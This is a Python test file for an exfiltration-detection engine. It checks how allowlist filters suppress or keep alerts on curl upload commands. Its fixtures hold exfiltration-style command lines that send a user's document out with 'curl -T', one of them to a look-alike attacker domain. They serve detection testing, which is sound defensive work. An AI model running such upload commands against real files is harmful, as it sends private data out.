"""Filters of a pack, and filters that wait for values of a site (docs/rules.md, Filters)."""

from pathlib import Path
from typing import Any

import pytest

from exfilwatch.detection.condition import selections
from exfilwatch.detection.engine import Engine
from exfilwatch.detection.filters import PREFIX
from exfilwatch.detection.load import check, load
from exfilwatch.detection.rule import RuleSet
from exfilwatch.detection.rule_tests import run_tests
from exfilwatch.errors import RuleError
from exfilwatch.events.event import Event, Origin
from exfilwatch.events.report import Report
from exfilwatch.rules.packs import FILTERS, pack
from exfilwatch.siem.queries.pasted import widened

OWN = """
title: Uploads of ours
id: 0f0f0f0f-0000-4000-8000-0000000000c1
logsource: {category: process_creation}
detection:
  upload: {CommandLine|contains: ' -T '}
  condition: upload
"""
FILTER = """
title: Our transfer host
id: 0f0f0f0f-0000-4000-8000-0000000000c2
logsource: {category: process_creation}
filter:
  rules: any
  ours: {CommandLine|contains: 'files.example.net'}
  condition: not ours
"""
LINE = "curl -T /home/eva/plan.docx https://files.example.net/in/"


def event(line: str = LINE) -> Event:
    fields: dict[str, Any] = {"Image": "/usr/bin/curl", "CommandLine": line, "Computer": "WS1"}
    return Event("test", "process_creation", "linux", "", 0, None, "WS1", "1", Origin("test", 1), fields, fields)


def found(rules: RuleSet, line: str = LINE) -> set[str]:
    return {each.rule.title for each in Engine(rules, Report()).detect([event(line)])}


def written(folder: Path, **files: str) -> Path:
    for name, text in files.items():
        (folder / f"{name}.yml").write_text(text, "utf-8")
    return folder


def test_a_filter_of_a_pack_leaves_other_rules_alone(tmp_path: Path) -> None:
    written(tmp_path, own=OWN, filter=FILTER + "exfilwatch: {pack: exfil}")
    assert found(load([pack("exfil"), tmp_path / "own.yml"])) == {"Uploads of ours", "Upload By An HTTP Client"}
    assert found(load([pack("exfil"), tmp_path])) == {"Uploads of ours"}


def test_a_filter_of_no_pack_is_for_all_rules(tmp_path: Path) -> None:
    written(tmp_path, own=OWN, filter=FILTER)
    assert found(load([pack("exfil"), tmp_path])) == set()
    assert found(load([pack("exfil"), tmp_path]), LINE.replace("files", "other")) != set()


@pytest.mark.parametrize(
    ("block", "said"), [("{pack: nope}", "no rule pack 'nope'"), ("{branch: a}", "only `pack`"), ("[a]", "only `pack`")]
)
def test_what_a_filters_block_can_not_say_is_an_error(tmp_path: Path, block: str, said: str) -> None:
    with pytest.raises(RuleError, match=said):
        load([written(tmp_path, own=OWN, filter=f"{FILTER}exfilwatch: {block}")])


@pytest.mark.parametrize(
    ("until", "hides"),
    [
        ("2020-01-01", False),
        ("'2020-01-01T12:00:00Z'", False),
        ("2020-01-01T12:00:00+02:00", False),
        ("2999-01-01", True),
        ("'2999-01-01T12:00Z'", True),
    ],
)
def test_a_filter_ends_by_itself(tmp_path: Path, until: str, hides: bool) -> None:
    rules = load([written(tmp_path, own=OWN, filter=f"{FILTER}exfilwatch: {{until: {until}}}")])
    assert (found(rules) == set()) is hides
    (each,) = rules.filters
    assert each.ended is not hides
    report = Report()
    Engine(rules, report)
    assert report.problems == []


@pytest.mark.parametrize("until", ["soon", "31.12.2026", "[a]", "12"])
def test_an_end_that_is_no_day_is_an_error(tmp_path: Path, until: str) -> None:
    with pytest.raises(RuleError, match="exfilwatch: "):
        load([written(tmp_path, own=OWN, filter=f"{FILTER}exfilwatch: {{until: {until}}}")])


def test_a_filter_waits_for_its_placeholder_and_says_so_once(tmp_path: Path) -> None:
    written(tmp_path, own=OWN, filter=FILTER.replace("contains: 'files.example.net'", "expand|contains: '%ours%'"))
    waiting, report = load([tmp_path]), Report()
    assert found(waiting) == {"Uploads of ours"}
    assert [each.waits for each in waiting.filters] == [("ours",)]
    Engine(waiting, report)
    (problem,) = map(str, report.problems)
    assert "filter.yml:2" in problem
    assert "%ours%" in problem
    assert check([tmp_path]) == []
    assert found(load([tmp_path], {"ours": ("files.example.*",)})) == set()


@pytest.mark.parametrize("field", ["CommandLine|re|expand", "CommandLine|expand|contains", "CommandLine|expand"])
def test_a_placeholder_waits_in_any_kind_of_value(tmp_path: Path, field: str) -> None:
    rules = FILTER.replace("CommandLine|contains: 'files.example.net'", f"{field}: ['a', '%ours%']")
    (each,) = load([written(tmp_path, own=OWN, filter=rules)]).filters
    assert each.waits == ("ours",)


def test_what_else_is_wrong_with_a_filter_that_waits_is_said(tmp_path: Path) -> None:
    waiting = FILTER.replace("contains: 'files.example.net'", "expand|contains: '%ours%'")
    with pytest.raises(RuleError, match="there"):
        load([written(tmp_path, own=OWN, filter=waiting.replace("not ours", "not theirs"))])


def test_a_filter_of_a_pack_waits_without_a_word() -> None:
    report = Report()
    rules = load([pack("exfil"), FILTERS])
    Engine(rules, report)
    assert any(each.waits for each in rules.filters)
    assert report.problems == []


def test_a_filter_of_a_pack_that_is_not_loaded_is_idle(tmp_path: Path) -> None:
    (each,) = load([written(tmp_path, own=OWN, filter=FILTER + "exfilwatch: {pack: exfil}")]).filters
    assert each.idle


def test_the_same_rules_are_the_same_in_each_load() -> None:
    once, again = (load([pack("exfil"), FILTERS]).rules for _ in range(2))
    assert [[*selections(rule.condition)] for rule in once] == [[*selections(rule.condition)] for rule in again]


def test_filters_of_a_pack_stay_out_of_screens_and_queries_and_that_is_said() -> None:
    rules = [rule for rule in load([pack("exfil"), FILTERS]).rules if rule.silenced]
    assert len(rules) > 20
    for rule in rules:
        assert any(name.startswith(PREFIX) for name, _ in selections(rule.condition))
        assert not any(name.startswith(PREFIX) for name, _ in selections(rule.screen))
        assert "filters of the pack" in {each.part for each in widened("splunk", rule)}


def test_a_case_that_nothing_finds_without_the_filter_is_no_test_of_it(tmp_path: Path) -> None:
    written(tmp_path, filter=FILTER + "exfilwatch: {pack: exfil}")
    (tmp_path / "tests").mkdir()
    cases = f"""
silent:
- {{why: sent to us, Image: /usr/bin/curl, CommandLine: '{LINE}'}}
- {{why: fetched, Image: /usr/bin/curl, CommandLine: 'curl -O https://files.example.net/a'}}
fires:
- {{why: sent elsewhere, Image: /usr/bin/curl, CommandLine: 'curl -T a https://other.example.net/'}}
- {{why: hidden too, Image: /usr/bin/curl, CommandLine: 'curl -T a https://files.example.net.evil.example/'}}
"""
    (tmp_path / "tests" / "filter.yml").write_text(cases, "utf-8")
    outcomes = run_tests([tmp_path])
    assert {each.why: each.detail for each in outcomes} == {
        "sent to us": "",
        "fetched": "no finding without the filter either",
        "sent elsewhere": "",
        "hidden too": "no finding",
    }


@pytest.mark.parametrize(("product", "left"), [("linux", set()), ("windows", {"Uploads of ours"})])
@pytest.mark.parametrize("rules", ["any", "[0f0f0f0f-0000-4000-8000-0000000000c1]"])
def test_a_filter_of_one_product_hides_events_of_that_product_of_a_rule_for_any(
    tmp_path: Path, product: str, left: set[str], rules: str
) -> None:
    narrow = FILTER.replace("process_creation}", f"process_creation, product: {product}}}").replace("any", rules)
    assert found(load([written(tmp_path, own=OWN, filter=narrow)])) == left
